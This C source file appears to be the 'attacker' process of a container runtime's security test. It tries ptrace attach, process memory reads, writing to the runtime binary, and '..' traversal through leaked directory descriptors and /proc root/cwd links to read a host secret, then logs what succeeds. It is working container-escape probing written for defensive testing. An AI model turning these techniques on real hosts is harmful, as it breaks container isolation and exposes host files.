/* SPDX-License-Identifier: Apache-2.0 */
/*
 * ptrace-attacker REPORT_DIR DEV:INO SECRET [SECONDS]: the malicious
 * process of tests/security/ptrace.sh.  Statically linked, it runs inside
 * a container A (as its init) while the test makes the runtime's own
 * processes appear in A's pid namespace: those of `exec` into A, and the
 * inits of containers that join A's pid namespace, while they still run
 * the runtime's code (the binary DEV:INO, st_dev and st_ino as the host
 * sees them; or a memfd copy of it, as crun and older runcs run).
 *
 * For SECONDS (default 300) or until REPORT_DIR/stop exists, it polls
 * every process it can see, in a tight loop, and tries every way the
 * kernel offers into another process:
 *
 *   PTRACE_ATTACH, or PTRACE_SEIZE + PTRACE_INTERRUPT (in turns): when
 *     attached and stopped, the exe is looked at (a stopped process cannot
 *     execve), its registers and the memory at its instruction pointer
 *     are read (PTRACE_GETREGS, PTRACE_PEEKDATA); then it is let go;
 *   process_vm_readv() of its memory (EFAULT on an unmapped address is a
 *     granted access too: the kernel checks the access first);
 *   open(/proc/PID/mem) and a read;
 *   open(/proc/PID/exe) (O_PATH), and a reopen for writing;
 *   every /proc/PID/fd/N: an fd that is a directory is a way out if
 *     SECRET (an absolute path on the host that does not exist in the
 *     container) can be opened below it through "..";
 *   /proc/PID/root/SECRET and /proc/PID/cwd/<basename of SECRET>: the
 *     process's root and cwd, whatever they are.
 *
 * Whatever succeeds on a process of the runtime is one line of
 * REPORT_DIR/hits, "KIND: what" (KIND is attach, memory, exe, fd, write
 * or secret); the secret itself, whoever it came from, is "secret:" and
 * what was read is appended to REPORT_DIR/loot.  A granted access to a
 * process that is not the runtime's (the container's own programs) is
 * only counted.  REPORT_DIR/summary then holds counters that show the
 * attack had its chances:
 *
 *   rounds=R pids=P denied=D runtime=N attach=TRIED/GRANTED
 *   seize=TRIED/GRANTED vm=TRIED/GRANTED mem=TRIED/GRANTED
 *   fd=GRANTED root=TRIED/GRANTED
 *
 * P: distinct pids seen; D: distinct pids that refused some access
 * (the runtime's, born non-dumpable); N: distinct pids found to be the
 * runtime's (which takes a granted access).
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define MAX_PIDS 65536
#define UP "../../../../../../../../../../../../../../../../../../../../../../../.."

struct counter {
	unsigned long tried, granted;
};

static int report_dir = -1;
static dev_t target_dev;
static ino_t target_ino;
static const char *secret;
static unsigned char seen[MAX_PIDS / 8], refused[MAX_PIDS / 8], runtime[MAX_PIDS / 8];
static unsigned long n_pids, n_denied, n_runtime, n_fds;
static struct counter c_attach, c_seize, c_vm, c_mem, c_root;

static int bit(unsigned char *set, int pid, int mark)
{
	int was;

	if (pid <= 0 || pid >= MAX_PIDS)
		return 1;
	was = !!(set[pid / 8] & (1 << (pid % 8)));
	if (mark)
		set[pid / 8] |= (unsigned char)(1 << (pid % 8));
	return was;
}

static void append(const char *file, const char *data, size_t n)
{
	int fd = openat(report_dir, file, O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC, 0644);

	if (fd < 0)
		return;
	if (write(fd, data, n) < 0)
		perror("ptrace-attacker: write");
	close(fd);
}

/* Whether @line was reported already (each is reported once: the same
 * success on every round would only fill the disk). */
static int reported(const char *line)
{
	static unsigned long long set[8192];
	unsigned long long h = 0xcbf29ce484222325ULL;
	size_t i = 0, k;

	for (const char *p = line; *p; p++)
		h = (h ^ (unsigned char)*p) * 0x100000001b3ULL;
	h |= 1;
	for (k = 0; k < 8192; k++) {
		i = (h + k) % 8192;
		if (set[i] == h)
			return 1;
		if (!set[i])
			break;
	}
	if (k < 8192)
		set[i] = h; /* (full, it reports everything again) */
	return 0;
}

static int hit(const char *fmt, ...) __attribute__((format(printf, 1, 2)));

/* One line of REPORT_DIR/hits, once; 1 when new. */
static int hit(const char *fmt, ...)
{
	char line[512];
	va_list ap;
	int n;

	va_start(ap, fmt);
	n = vsnprintf(line, sizeof(line) - 1, fmt, ap);
	va_end(ap);
	if (n < 0)
		return 0;
	if (n > (int)sizeof(line) - 2)
		n = (int)sizeof(line) - 2;
	line[n] = '\0';
	if (reported(line))
		return 0;
	line[n++] = '\n';
	append("hits", line, (size_t)n);
	fputs(line, stderr);
	return 1;
}

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static void denied(int pid, int err)
{
	if ((err == EPERM || err == EACCES) && !bit(refused, pid, 1))
		n_denied++;
}

/* What /proc/PID/exe is, "" when it cannot be read. */
static void exe_link(int pid, char *buf, size_t size)
{
	char path[64];
	ssize_t n;

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	n = readlink(path, buf, size - 1);
	buf[n < 0 ? 0 : n] = '\0';
}

/* Whether PID runs the runtime: its binary, or a memfd copy of it. */
static int is_runtime(int pid)
{
	char path[64], link[PATH_MAX];
	struct stat st;
	int yes;

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	exe_link(pid, link, sizeof(link));
	yes = (stat(path, &st) == 0 && st.st_dev == target_dev && st.st_ino == target_ino) ||
	      strstr(link, "memfd:") != NULL;
	if (yes && !bit(runtime, pid, 1))
		n_runtime++;
	return yes;
}

/* Read the secret through @dirfd + @rel: the host reached. */
static void try_secret(int dirfd, const char *rel, const char *how, int pid)
{
	char buf[256];
	ssize_t n;
	int fd = openat(dirfd, rel, O_RDONLY | O_CLOEXEC | O_NOCTTY | O_NONBLOCK);

	if (fd < 0)
		return;
	n = read(fd, buf, sizeof(buf));
	close(fd);
	if (n <= 0)
		return;
	if (hit("secret: read the host's %s through %s of pid %d", secret, how, pid))
		append("loot", buf, (size_t)n);
}

/* Attached and stopped: who it is, its registers and memory. */
static void inspect_stopped(int pid, const char *how)
{
	struct user_regs_struct regs;
	char link[PATH_MAX];
	long word;

	if (!is_runtime(pid))
		return;
	exe_link(pid, link, sizeof(link));
	hit("attach: %s of pid %d, which runs %s", how, pid, link);
	if (ptrace(PTRACE_GETREGS, pid, NULL, &regs) < 0)
		return;
	errno = 0;
	word = ptrace(PTRACE_PEEKDATA, pid, (void *)regs.rip, NULL);
	if (errno == 0)
		hit("memory: PTRACE_PEEKDATA of pid %d at rip %#llx: %#lx", pid, regs.rip,
		    (unsigned long)word);
}

/* The signal a tracee stopped for, to hand on when it is let go: none for
 * an event, our own SIGSTOP, or the SIGTRAP that an execve sends a tracee
 * attached without options (attached in the middle of its execve). */
static int pass_on(int status)
{
	int sig = WSTOPSIG(status);

	return (status >> 16) || sig == SIGSTOP || sig == SIGTRAP ? 0 : sig;
}

/*
 * Wait (bounded) for the stop that our PTRACE_ATTACH (SIGSTOP) or
 * PTRACE_INTERRUPT (PTRACE_EVENT_STOP) asked for; a signal that comes
 * first is handed on (PTRACE_CONT with it), never swallowed.  1 when
 * stopped so, 0 when gone, -1 when it did not stop in time.
 */
static int wait_stop(int pid, int seize)
{
	double end = now() + 2.0;
	int status;

	for (;;) {
		pid_t r = waitpid(pid, &status, __WALL | WNOHANG);

		if (r < 0)
			return 0;
		if (r == pid) {
			if (!WIFSTOPPED(status))
				return 0;
			if (seize ? (status >> 16) == PTRACE_EVENT_STOP
			          : WSTOPSIG(status) == SIGSTOP)
				return 1;
			/* a signal-delivery stop (or an event): on with it */
			ptrace(PTRACE_CONT, pid, NULL, (void *)(long)pass_on(status));
			continue;
		}
		if (now() > end)
			return -1;
		sched_yield();
	}
}

static void try_ptrace(int pid, int seize)
{
	struct counter *c = seize ? &c_seize : &c_attach;
	const char *how = seize ? "PTRACE_SEIZE" : "PTRACE_ATTACH";
	int stopped;

	c->tried++;
	if (ptrace(seize ? PTRACE_SEIZE : PTRACE_ATTACH, pid, NULL, NULL) < 0) {
		denied(pid, errno);
		return;
	}
	c->granted++;
	if (seize && ptrace(PTRACE_INTERRUPT, pid, NULL, NULL) < 0)
		return;
	stopped = wait_stop(pid, seize);
	if (stopped > 0) {
		inspect_stopped(pid, how);
		ptrace(PTRACE_DETACH, pid, NULL, NULL);
	} else if (stopped < 0) {
		/* still ours: let go at its next stop, by reap() */
		if (is_runtime(pid))
			hit("attach: %s of pid %d (it did not stop in time)", how, pid);
	}
}

/* field 26 of /proc/PID/stat, startcode: 0 unless access is granted */
static unsigned long startcode(int pid)
{
	char path[64], buf[1024], *p;
	unsigned long v = 0;
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/stat", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return 0;
	n = read(fd, buf, sizeof(buf) - 1);
	close(fd);
	if (n <= 0)
		return 0;
	buf[n] = '\0';
	p = strrchr(buf, ')');
	for (int field = 2; p && field < 26; field++)
		p = strchr(p + 1, ' ');
	if (p)
		v = strtoul(p + 1, NULL, 10);
	return v;
}

static void try_memory(int pid)
{
	unsigned long addr = startcode(pid);
	char buf[16], path[64];
	struct iovec local = { buf, sizeof(buf) }, remote;
	ssize_t n;
	int fd;

	if (!addr)
		addr = 0x10000; /* unmapped: EFAULT, once access is granted */
	remote.iov_base = (void *)addr;
	remote.iov_len = sizeof(buf);
	c_vm.tried++;
	n = process_vm_readv(pid, &local, 1, &remote, 1, 0);
	if (n >= 0 || errno == EFAULT) {
		c_vm.granted++;
		if (is_runtime(pid))
			hit("memory: process_vm_readv of pid %d at %#lx: %zd bytes", pid, addr, n);
	} else {
		denied(pid, errno);
	}

	snprintf(path, sizeof(path), "/proc/%d/mem", pid);
	c_mem.tried++;
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0) {
		denied(pid, errno);
		return;
	}
	c_mem.granted++;
	n = pread(fd, buf, sizeof(buf), (off_t)addr);
	if (is_runtime(pid))
		hit("memory: /proc/%d/mem opened, %zd bytes read at %#lx", pid, n, addr);
	close(fd);
}

static void try_exe(int pid)
{
	char path[64];
	struct stat st;
	int fd, w;

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0) {
		denied(pid, errno);
		return;
	}
	if (fstat(fd, &st) == 0 && st.st_dev == target_dev && st.st_ino == target_ino) {
		is_runtime(pid);
		hit("exe: got an fd of the runtime's binary through /proc/%d/exe", pid);
		snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
		w = open(path, O_WRONLY | O_CLOEXEC);
		if (w >= 0) {
			hit("write: opened the runtime's binary of pid %d for writing", pid);
			close(w);
		}
	}
	close(fd);
}

static void try_fds(int pid)
{
	char path[64], fdpath[384], link[PATH_MAX];
	struct dirent *de;
	struct stat st;
	int rt = -1;
	DIR *d;

	snprintf(path, sizeof(path), "/proc/%d/fd", pid);
	d = opendir(path);
	if (!d) {
		denied(pid, errno);
		return;
	}
	while ((de = readdir(d))) {
		ssize_t n;
		int fd;

		if (!isdigit((unsigned char)de->d_name[0]))
			continue;
		snprintf(fdpath, sizeof(fdpath), "%s/%s", path, de->d_name);
		fd = open(fdpath, O_PATH | O_CLOEXEC);
		if (fd < 0)
			continue;
		n = readlink(fdpath, link, sizeof(link) - 1);
		link[n < 0 ? 0 : n] = '\0';
		if (rt < 0)
			rt = is_runtime(pid);
		if (rt && hit("fd: /proc/%d/fd/%s of the runtime: %s", pid, de->d_name, link))
			n_fds++;
		/* any directory: is the host above it? */
		if (fstat(fd, &st) == 0 && S_ISDIR(st.st_mode)) {
			char rel[PATH_MAX], how[400];

			snprintf(rel, sizeof(rel), "%s%s", UP, secret);
			snprintf(how, sizeof(how), "fd %s (%.100s)", de->d_name, link);
			try_secret(fd, rel, how, pid);
		}
		close(fd);
	}
	closedir(d);
}

static void try_root(int pid)
{
	const char *base = strrchr(secret, '/');
	char path[PATH_MAX];

	snprintf(path, sizeof(path), "/proc/%d/root%s", pid, secret);
	c_root.tried++;
	if (access(path, F_OK) == 0 || errno == ENOENT)
		c_root.granted++;
	else
		denied(pid, errno);
	try_secret(AT_FDCWD, path, "/proc/PID/root", pid);
	snprintf(path, sizeof(path), "/proc/%d/cwd/%s", pid, base ? base + 1 : secret);
	try_secret(AT_FDCWD, path, "/proc/PID/cwd", pid);
}

/* As init: reap the orphans left to us; a tracee that stopped late is
 * let go with the signal it stopped for (never our own SIGSTOP). */
static void reap(void)
{
	int status;
	pid_t r;

	while ((r = waitpid(-1, &status, __WALL | WNOHANG)) > 0) {
		if (!WIFSTOPPED(status))
			continue;
		ptrace(PTRACE_DETACH, r, NULL, (void *)(long)pass_on(status));
	}
}

static void attack(int pid, unsigned long round)
{
	try_root(pid);
	try_fds(pid);
	try_exe(pid);
	try_memory(pid);
	try_ptrace(pid, (int)((round + (unsigned long)pid) & 1));
}

int main(int argc, char **argv)
{
	unsigned long long dev_ll, ino_ll;
	unsigned long rounds = 0;
	double deadline;
	int self = getpid(), fd;
	FILE *f;

	if (argc < 4 || sscanf(argv[2], "%llu:%llu", &dev_ll, &ino_ll) != 2 || argv[3][0] != '/') {
		fprintf(stderr, "usage: ptrace-attacker REPORT_DIR DEV:INO /SECRET [SECONDS]\n");
		return 2;
	}
	target_dev = (dev_t)dev_ll;
	target_ino = (ino_t)ino_ll;
	secret = argv[3];
	deadline = now() + (argc > 4 ? atof(argv[4]) : 300.0);
	report_dir = open(argv[1], O_PATH | O_DIRECTORY | O_CLOEXEC);
	if (report_dir < 0) {
		perror("ptrace-attacker: open the report dir");
		return 1;
	}
	fd = openat(report_dir, "ready", O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
	if (fd >= 0)
		close(fd);

	while (faccessat(report_dir, "stop", F_OK, 0) < 0 && now() < deadline) {
		DIR *d = opendir("/proc");
		struct dirent *de;

		rounds++;
		while (d && (de = readdir(d))) {
			int pid;

			if (!isdigit((unsigned char)de->d_name[0]))
				continue;
			pid = atoi(de->d_name);
			if (pid == self)
				continue;
			if (!bit(seen, pid, 1))
				n_pids++;
			attack(pid, rounds);
		}
		if (d)
			closedir(d);
		reap();
		sched_yield();
	}

	fd = openat(report_dir, "summary.tmp", O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
	f = fd < 0 ? NULL : fdopen(fd, "w");
	if (!f)
		return 1;
	fprintf(f,
	        "rounds=%lu pids=%lu denied=%lu runtime=%lu attach=%lu/%lu seize=%lu/%lu "
	        "vm=%lu/%lu mem=%lu/%lu fd=%lu root=%lu/%lu\n",
	        rounds, n_pids, n_denied, n_runtime, c_attach.tried, c_attach.granted,
	        c_seize.tried, c_seize.granted, c_vm.tried, c_vm.granted, c_mem.tried,
	        c_mem.granted, n_fds, c_root.tried, c_root.granted);
	if (fclose(f) != 0)
		return 1;
	return renameat(report_dir, "summary.tmp", report_dir, "summary") < 0;
}
